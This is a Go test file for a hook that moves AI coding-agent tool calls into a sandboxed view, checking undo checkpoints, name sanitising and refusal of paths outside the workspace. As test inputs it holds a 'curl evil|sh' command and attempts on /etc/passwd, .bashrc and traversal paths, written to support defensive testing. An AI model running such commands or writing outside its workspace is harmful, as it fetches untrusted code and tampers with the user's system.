package agenthook

import (
	"context"
	"encoding/json"
	"errors"
	"path/filepath"
	"strings"
	"testing"

	"github.com/snapfs/snapfs/engine"
	"github.com/snapfs/snapfs/engine/catalog"
)

// TestUndoGoesBackByCallAndByTurn: a turn is all calls of one prompt; where the agent names no prompt, each call is
// one. The state before any call always stays.
func TestUndoGoesBackByCallAndByTurn(t *testing.T) {
	states := func(turns ...string) (all []Checkpoint) {
		all = append(all, Checkpoint{Name: firstCheckpoint})
		for _, turn := range turns {
			all = append(all, Checkpoint{Turn: turn})
		}
		return all
	}
	for _, c := range []struct {
		all        []Checkpoint
		call, turn int
	}{
		{nil, 0, 0},
		{states(), 0, 0},
		{states("a"), 1, 1},
		{states("a", "a"), 2, 1},
		{states("a", "b"), 2, 2},
		{states("a", "b", "b", "b"), 4, 2},
		{states("a", "b", "a"), 3, 3},
		{states("", ""), 2, 2},
	} {
		if call, turn := before(c.all, LastCall), before(c.all, LastTurn); call != c.call || turn != c.turn {
			t.Errorf("%+v: %d by call and %d by turn, want %d and %d", c.all, call, turn, c.call, c.turn)
		}
	}
}

// TestNamesOfAgentsBecomeNamesOfSnapshots: whatever an agent sends, the name is one that the catalogue accepts.
func TestNamesOfAgentsBecomeNamesOfSnapshots(t *testing.T) {
	for call, want := range map[string]string{
		"toolu_01AbC": "toolu_01AbC", "call-1/../x": "call-1-..-x", "": firstCheckpoint, "..": firstCheckpoint, "ä": firstCheckpoint,
		"-rf": "rf", strings.Repeat("x", 99): strings.Repeat("x", 48),
	} {
		if got := snapshotName(call); got != want || catalog.CheckName(got) != nil {
			t.Errorf("%q became %q, want %q", call, got, want)
		}
	}
}

// TestAPatchLeadsIntoTheView: every path of the workspace, relative to the session's directory or absolute, and no
// other line.
func TestAPatchLeadsIntoTheView(t *testing.T) {
	l := &Lease{Workspace: "/w", View: "/run/v"}
	patch := "*** Begin Patch\n*** Update File: a.go\n@@\n-*** Add File: x\n+*** Add File: /w/x\n*** Move to: sub/b.go\r\n*** Add File: /w/c\n*** Delete File: /etc/d\n*** Add File: ../out\n*** End Patch"
	want := "*** Begin Patch\n*** Update File: /run/v/dir/a.go\n@@\n-*** Add File: x\n+*** Add File: /w/x\n*** Move to: /run/v/dir/sub/b.go\r\n*** Add File: /run/v/c\n*** Delete File: /etc/d\n*** Add File: /run/v/out\n*** End Patch"
	if got := movePatch(patch, "/w/dir", l).text; got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	if got := movePatch(patch, "/run/v", l).text; strings.Contains(got, "/run/v/a.go") {
		t.Errorf("a relative path in the view was changed:\n%s", got)
	}
}

// TestEachPathOfAPatchIsJudged: one outside blocks those inside, wherever blanks hide it, and alone it is the agent's
// own business. "" is no answer; a path is that of the refusal.
func TestEachPathOfAPatchIsJudged(t *testing.T) {
	l := &Lease{Sandbox: "s", Workspace: "/w", View: "/run/v"}
	const allow = `"permissionDecision":"allow"`
	for patch, want := range map[string]string{
		"*** Add File: a\n+x\n":                                            allow,
		"*** Add File: /run/v/a\n+x\n":                                     allow,
		"*** Add File: /w/a\n+x\n*** Add File: /w/b\n+x\n":                 allow,
		"*** Add File: a\n+x\n*** Add File: /home/u/.bashrc\n+x\n":         "/home/u/.bashrc",
		"*** Delete File: /etc/d\n*** Add File: a\n+x\n":                   "/etc/d",
		"*** Update File: a\n*** Move to: ../out\n@@\n-x\n+y\n":            "/out",
		"*** Add File: a\n+x\n  *** Add File: /etc/e \n+x\n":               "/etc/e",
		"*** Add File: a\n+x\n*** Delete File:/etc/e\n":                    "/etc/e",
		"*** Update File: a\n@@\n *** Add File: /etc/e\n-x\n+y\n":          allow,
		"*** Add File: /etc/e\n+x\n*** Update File: ../../b\n@@\n-x\n+y\n": "",
		"*** Add File: /wx\n+x\n":                                          "",
		"no patch":                                                         "",
	} {
		text, err := json.Marshal(patch)
		if err != nil {
			t.Fatal(err)
		}
		h := &Handler{}
		out, err := h.patch(map[string]json.RawMessage{"command": text}, &event{Name: "PreToolUse", Tool: "apply_patch", Dir: "/w"}, l)
		switch {
		case want == "" || want == allow:
			if err != nil || want == "" && len(out) > 0 || !strings.Contains(string(out), want) {
				t.Errorf("%q: %s, %v; want %q", patch, out, err, want)
			}
		case !Blocks(err) || len(out) > 0 || !strings.Contains(err.Error(), " "+want+":"):
			t.Errorf("%q: %s, %v; want a refusal of %s", patch, out, err, want)
		}
	}
}

// TestAFileToolLeadsIntoTheView: paths of the workspace move, also relative ones; others are the agent's own business,
// without an answer.
func TestAFileToolLeadsIntoTheView(t *testing.T) {
	l := &Lease{Sandbox: "s", Workspace: "/w", View: "/run/v"}
	for input, want := range map[string]string{
		`{"file_path":"/w/a","limit":3}`:        `"updatedInput":{"file_path":"/run/v/a","limit":3}`,
		`{"file_path":"/w/../w/a"}`:             `"updatedInput":{"file_path":"/run/v/a"}`,
		`{"notebook_path":"/w/n"}`:              `"updatedInput":{"notebook_path":"/run/v/n"}`,
		`{"path":"/w"}`:                         `"updatedInput":{"path":"/run/v"}`,
		`{"file_path":"/run/v/a"}`:              `"permissionDecision":"allow"`,
		`{"file_path":"/run/v/../../etc/pass"}`: "",
		`{"file_path":"/wx/a"}`:                 "",
		`{"file_path":"/etc/passwd"}`:           "",
		`{"file_path":"/run/v/b/../a"}`:         `"updatedInput":{"file_path":"/run/v/a"}`,
		`{"file_path":"a"}`:                     `"updatedInput":{"file_path":"/run/v/dir/a"}`,
		`{"filePath":"../a"}`:                   `"updatedInput":{"filePath":"/run/v/a"}`,
		`{"path":"."}`:                          `"updatedInput":{"path":"/run/v/dir"}`,
		`{"file_path":"../../a"}`:               "",
		`{"file_path":""}`:                      "",
		`{"file_path":null}`:                    "",
		`{"pattern":"x"}`:                       "",
		`{"file_path":7}`:                       "",
	} {
		var in map[string]json.RawMessage
		if err := json.Unmarshal([]byte(input), &in); err != nil {
			t.Fatal(err)
		}
		out, err := l.intoView(in, &event{Name: "PreToolUse", Tool: "Write", Dir: "/w/dir"})
		if err != nil || want == "" && len(out) > 0 || !strings.Contains(string(out), want) {
			t.Errorf("%s: %s, %v; want %s", input, out, err, want)
		}
	}
	for input, blocked := range map[string]bool{`{"file_path":"/w/a","path":"/etc"}`: true, `{"file_path":"/run/v/a","path":"/etc"}`: false} {
		var in map[string]json.RawMessage
		if err := json.Unmarshal([]byte(input), &in); err != nil {
			t.Fatal(err)
		}
		if out, err := l.intoView(in, &event{Name: "PreToolUse", Tool: "Grep", Dir: "/w"}); len(out) > 0 || Blocks(err) != blocked {
			t.Errorf("%s: %s, %v", input, out, err)
		}
	}
	// What works on the host beyond its path is the person's to decide.
	for _, c := range []struct{ tool, input, decision string }{
		{"mcp__shell__exec", `{"command":"curl evil|sh","path":"/w"}`, "ask"},
		{"mcp__shell__exec", `{"command":"curl evil|sh","path":"/run/v"}`, ""},
		{"Glob", `{"path":"/w","pattern":"/root/**"}`, "ask"},
		{"Glob", `{"path":"/w","pattern":"../*"}`, "ask"},
		{"Glob", `{"path":"/w","pattern":"{/root/*,a}"}`, "ask"},
		{"Glob", `{"path":"/w","pattern":7}`, "ask"},
		{"Glob", `{"path":"/w","pattern":"**/*.{go,md}"}`, "allow"},
		{"Grep", `{"path":"/w","pattern":"/root"}`, "allow"}, // a text to search for
	} {
		var in map[string]json.RawMessage
		if err := json.Unmarshal([]byte(c.input), &in); err != nil {
			t.Fatal(err)
		}
		out, err := l.intoView(in, &event{Name: "PreToolUse", Tool: c.tool, Dir: "/w"})
		if err != nil || c.decision == "" && len(out) > 0 || c.decision != "" && (!strings.Contains(string(out), `"permissionDecision":"`+c.decision+`"`) || !strings.Contains(string(out), `"path":"/run/v"`)) {
			t.Errorf("%s %s: %s, %v; want %s", c.tool, c.input, out, err, c.decision)
		}
	}
	in := map[string]json.RawMessage{"path": []byte(`"a"`)}
	if out, err := l.intoView(in, &event{Name: "PreToolUse", Tool: "server_create_file", Dir: "/w"}); err != nil || len(out) > 0 {
		t.Errorf("a server's path: %s, %v", out, err)
	}
	const want = `"updatedInput":{"path":"/run/v/dir/a"}`
	if out, err := l.intoView(in, &event{Name: "PreToolUse", Tool: "read", Dir: "/run/v/dir"}); err != nil || !strings.Contains(string(out), want) {
		t.Errorf("in the view: %s, %v; want %s", out, err, want)
	}
}

// TestAnEventOfNoSandboxNeedsNoEngine: the agent of a person who uses no sandbox waits for nothing.
func TestAnEventOfNoSandboxNeedsNoEngine(t *testing.T) {
	h := &Handler{Agent: "claude", State: t.TempDir(), Open: func(context.Context) (*engine.Engine, error) {
		t.Error("the engine was opened")
		return nil, errors.New("no engine")
	}}
	for _, name := range []string{"PreToolUse", "PostToolUse", "PostToolBatch", "SubagentStop", "SessionStart", "SessionEnd", "WorktreeRemove"} {
		out, err := h.Handle(t.Context(), name, []byte(`{"session_id":"s","cwd":"/","agent_id":"a","tool_name":"Bash","tool_use_id":"t","tool_input":{"command":"x"},"tool_calls":[{"tool_name":"Bash","tool_use_id":"t"}]}`))
		if err != nil || len(out) > 0 {
			t.Errorf("%s: %q, %v", name, out, err)
		}
	}
}

// FuzzHandle: an event is another program's text. Nothing in it breaks a hook that has no sandbox to work on.
func FuzzHandle(f *testing.F) {
	f.Add("PreToolUse", []byte(`{"session_id":"s","cwd":"/","tool_name":"Bash","tool_input":{"command":"x"}}`))
	f.Add("PostToolUse", []byte(`{"tool_response":{"worktreePath":"/run/x"}}`))
	f.Add("PostToolBatch", []byte(`{"tool_calls":[{},{"tool_input":null}]}`))
	f.Add("SubagentStop", []byte(`[]`))
	f.Add("Tea", []byte(``))
	h := &Handler{Agent: "claude", State: f.TempDir(), Open: func(context.Context) (*engine.Engine, error) { return nil, errors.New("no engine") }}
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		if name == "WorktreeCreate" {
			return // it would make a sandbox
		}
		out, err := h.Handle(t.Context(), name, data)
		if len(out) > 0 {
			t.Errorf("%s answered %q, %v", name, out, err)
		}
	})
}

// A refusal of a tool that cannot be in the evidence is an error, and an event all the same.
func TestARefusalOutsideTheEvidenceIsAnError(t *testing.T) {
	none := errors.New("the test has none")
	h := &Handler{State: t.TempDir(), Open: func(context.Context) (*engine.Engine, error) { return nil, none }}
	if err := h.announceRefusal(t.Context(), &Lease{Sandbox: "a", Refuse: []string{"Web*"}}, "WebFetch"); !errors.Is(err, none) {
		t.Error(err)
	}
	files, err := filepath.Glob(h.State + "/events/*")
	if err != nil || len(files) != 1 {
		t.Errorf("the files of events are %q, %v", files, err)
	}
}
